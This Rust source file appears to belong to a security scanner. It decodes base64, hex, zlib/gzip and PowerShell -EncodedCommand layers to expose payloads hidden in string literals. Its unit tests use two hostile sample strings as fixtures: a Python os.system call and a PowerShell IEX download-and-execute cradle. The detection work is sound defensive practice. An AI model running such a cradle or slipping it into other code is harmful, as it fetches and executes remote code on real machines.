//! Decoders for payloads that attackers embed in string literals: base64 (standard and
//! URL-safe), hex, zlib/gzip, rot13, reversed text and PowerShell's `-EncodedCommand`
//! (UTF-16LE base64). Each decoder is total (bad input gives `None`, never a panic) and
//! bounded: no output is larger than [`MAX_DECODED_BYTES`], so a decompression bomb in a
//! literal cannot stop the gate.

use std::io::Read;

use base64::Engine;

/// Largest output of one decoding step.
pub(crate) const MAX_DECODED_BYTES: usize = 2 * 1024 * 1024;
/// Shortest literal worth trying to decode: short base64-looking words are everywhere.
pub(crate) const MIN_ENCODED_LEN: usize = 24;

/// How a payload was decoded, for the reason text.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(crate) enum Encoding {
    Base64,
    Hex,
    Zlib,
    PowerShell,
}

impl Encoding {
    pub(crate) fn as_str(self) -> &'static str {
        match self {
            Encoding::Base64 => "base64",
            Encoding::Hex => "hex",
            Encoding::Zlib => "zlib",
            Encoding::PowerShell => "PowerShell -EncodedCommand",
        }
    }
}

/// Base64 in the standard or URL-safe alphabet, padded or not, whitespace ignored.
pub(crate) fn base64(text: &str) -> Option<Vec<u8>> {
    let compact: String = text.chars().filter(|c| !c.is_ascii_whitespace()).collect();
    if compact.len() < MIN_ENCODED_LEN || compact.len() > MAX_DECODED_BYTES * 2 {
        return None;
    }
    if !compact
        .bytes()
        .all(|b| b.is_ascii_alphanumeric() || matches!(b, b'+' | b'/' | b'-' | b'_' | b'='))
    {
        return None;
    }
    let trimmed = compact.trim_end_matches('=');
    let engines = [
        base64::engine::general_purpose::STANDARD_NO_PAD,
        base64::engine::general_purpose::URL_SAFE_NO_PAD,
    ];
    engines
        .iter()
        .find_map(|engine| engine.decode(trimmed).ok())
}

/// Hex digits (an optional `0x` or `\x` separators are not handled here: the folder turns
/// escapes into bytes first).
pub(crate) fn hex(text: &str) -> Option<Vec<u8>> {
    let compact: Vec<u8> = text.bytes().filter(|b| !b.is_ascii_whitespace()).collect();
    if compact.len() < MIN_ENCODED_LEN
        || compact.len() % 2 != 0
        || compact.len() > MAX_DECODED_BYTES * 2
    {
        return None;
    }
    compact
        .chunks(2)
        .map(|pair| {
            let digit = |b: u8| (b as char).to_digit(16);
            Some((digit(pair[0])? * 16 + digit(pair[1])?) as u8)
        })
        .collect()
}

/// zlib or gzip, whichever header the bytes carry, at most [`MAX_DECODED_BYTES`] out.
pub(crate) fn inflate(bytes: &[u8]) -> Option<Vec<u8>> {
    let mut out = Vec::new();
    let limit = MAX_DECODED_BYTES as u64;
    let result = if bytes.starts_with(&[0x1f, 0x8b]) {
        flate2::read::GzDecoder::new(bytes)
            .take(limit)
            .read_to_end(&mut out)
    } else if bytes.len() >= 2
        && bytes[0] & 0x0f == 8
        && u16::from_be_bytes([bytes[0], bytes[1]]) % 31 == 0
    {
        flate2::read::ZlibDecoder::new(bytes)
            .take(limit)
            .read_to_end(&mut out)
    } else {
        return None;
    };
    // A stream cut short still yields what it had; an attacker's truncated blob counts.
    match result {
        Ok(_) => Some(out),
        Err(_) if !out.is_empty() => Some(out),
        Err(_) => None,
    }
}

/// rot13 of ASCII letters.
pub(crate) fn rot13(text: &str) -> String {
    text.chars()
        .map(|c| match c {
            'a'..='z' => (((c as u8 - b'a') + 13) % 26 + b'a') as char,
            'A'..='Z' => (((c as u8 - b'A') + 13) % 26 + b'A') as char,
            other => other,
        })
        .collect()
}

/// UTF-16LE bytes as text (PowerShell's `-EncodedCommand`), `None` when not valid.
pub(crate) fn utf16le(bytes: &[u8]) -> Option<String> {
    if bytes.len() % 2 != 0 || bytes.is_empty() {
        return None;
    }
    let units: Vec<u16> = bytes
        .chunks(2)
        .map(|pair| u16::from_le_bytes([pair[0], pair[1]]))
        .collect();
    String::from_utf16(&units).ok()
}

/// Whether decoded bytes look like text a human or an interpreter would read (and so are
/// worth analysing as code): valid UTF-8, mostly printable.
pub(crate) fn readable(bytes: &[u8]) -> Option<&str> {
    let text = std::str::from_utf8(bytes).ok()?;
    let printable = text
        .chars()
        .filter(|c| !c.is_control() || matches!(c, '\n' | '\r' | '\t'))
        .count();
    (printable * 100 >= text.chars().count() * 95).then_some(text)
}

/// Every readable layer under an encoded literal: base64 or hex, then zlib/gzip when the
/// bytes are compressed, repeated up to `depth` times. Returns the innermost readable text
/// and the chain of encodings that led to it.
pub(crate) fn unwrap_layers(text: &str, depth: usize) -> Option<(String, Vec<Encoding>)> {
    let mut current = text.trim().to_owned();
    let mut chain = Vec::new();
    for _ in 0..depth {
        let (bytes, encoding) = if let Some(bytes) = hex(&current) {
            (bytes, Encoding::Hex)
        } else if let Some(bytes) = base64(&current) {
            (bytes, Encoding::Base64)
        } else {
            break;
        };
        chain.push(encoding);
        let bytes = match inflate(&bytes) {
            Some(inflated) => {
                chain.push(Encoding::Zlib);
                inflated
            }
            None => bytes,
        };
        if let Some(readable) = readable(&bytes) {
            current = readable.to_owned();
        } else if let Some(wide) = utf16le(&bytes).filter(|w| readable(w.as_bytes()).is_some()) {
            chain.push(Encoding::PowerShell);
            current = wide;
        } else {
            // Binary after decoding (marshal, an executable): nothing more to read.
            return None;
        }
    }
    (!chain.is_empty()).then_some((current, chain))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn base64_and_zlib_layers_unwrap() {
        use std::io::Write;
        let mut z = flate2::write::ZlibEncoder::new(Vec::new(), flate2::Compression::default());
        z.write_all(b"import os; os.system('id')").unwrap();
        let packed = base64::engine::general_purpose::STANDARD.encode(z.finish().unwrap());
        let (text, chain) = unwrap_layers(&packed, 4).unwrap();
        assert_eq!(text, "import os; os.system('id')");
        assert_eq!(chain, [Encoding::Base64, Encoding::Zlib]);
    }

    #[test]
    fn powershell_encoded_command_is_utf16() {
        let wide: Vec<u8> = "IEX (New-Object Net.WebClient).DownloadString('http://x')"
            .encode_utf16()
            .flat_map(u16::to_le_bytes)
            .collect();
        let encoded = base64::engine::general_purpose::STANDARD.encode(wide);
        let (text, chain) = unwrap_layers(&encoded, 2).unwrap();
        assert!(text.starts_with("IEX"));
        assert_eq!(chain, [Encoding::Base64, Encoding::PowerShell]);
    }

    #[test]
    fn hostile_inputs_give_none() {
        assert_eq!(base64("short"), None);
        assert_eq!(hex("zz".repeat(20).as_str()), None);
        assert_eq!(inflate(&[0x78, 0x9c, 0xff, 0xff]), None);
        assert_eq!(utf16le(&[0x00]), None);
        assert_eq!(rot13("Uryyb"), "Hello");
        // A bomb is cut at the limit.
        use std::io::Write;
        let mut z = flate2::write::ZlibEncoder::new(Vec::new(), flate2::Compression::best());
        z.write_all(&vec![b'a'; MAX_DECODED_BYTES * 3]).unwrap();
        let out = inflate(&z.finish().unwrap()).unwrap();
        assert_eq!(out.len(), MAX_DECODED_BYTES);
    }
}
